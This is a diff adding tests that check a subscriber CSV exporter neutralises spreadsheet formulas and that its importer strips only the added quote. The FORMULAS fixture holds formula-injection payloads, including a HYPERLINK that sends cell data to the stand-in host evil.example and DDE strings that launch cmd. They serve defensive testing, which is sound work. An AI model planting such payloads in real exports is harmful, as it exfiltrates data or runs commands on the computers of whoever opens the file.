@@ -231,3 +231,43 @@ def test_an_export_can_be_imported_again(tmp_path):
     with open(path, "w", encoding="utf-8", newline="") as handle:
         write_subscriber_csv(EXPORTED, handle)
     assert read_subscriber_csv(path) == [(i + 2, s.email, s.name) for i, s in enumerate(EXPORTED)]
+
+
+FORMULAS = [
+    subscriber(1, "ada@example.com", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+    subscriber(2, "-x@example.com", "-2+3"),
+    subscriber(3, "+tag@example.com", "+cmd|' /C calc'!A0"),
+    subscriber(4, "=sum@example.com", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    subscriber(5, "tab@example.com", "\tTabbed"),
+    subscriber(6, "cr@example.com", "\rReturned"),
+    subscriber(7, "plain@example.com", "Plain - Name = fine"),
+]
+
+
+def test_export_neutralises_spreadsheet_formulas():
+    out = io.StringIO()
+    write_subscriber_csv(FORMULAS, out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    for row, s in zip(rows, FORMULAS):
+        for column, value in (("email", s.email), ("name", s.name)):
+            if value[0] in "=+-@\t\r":
+                assert row[column] == "'" + value  # a spreadsheet shows it as text
+            else:
+                assert row[column] == value
+    # No cell of the file starts a formula.
+    for row in csv.reader(io.StringIO(out.getvalue(), newline="")):
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
+
+
+def test_an_export_with_formulas_imports_back_unchanged(tmp_path):
+    path = tmp_path / "export.csv"
+    with open(path, "w", encoding="utf-8", newline="") as handle:
+        write_subscriber_csv(FORMULAS, handle)
+    rows = read_subscriber_csv(path)
+    assert [(email, name) for _line, email, name in rows] == [(s.email, s.name.strip()) for s in FORMULAS]
+
+
+def test_an_import_removes_only_the_quote_an_export_adds(tmp_path):
+    rows = read(tmp_path, "email,name\n'-x@example.com,'=Name\n'ada@example.com,'Quoted'\n"
+                          "\"'+y@example.com\",  '@at\n")
+    assert rows == [(2, "-x@example.com", "=Name"), (3, "'ada@example.com", "'Quoted'"), (4, "+y@example.com", "@at")]
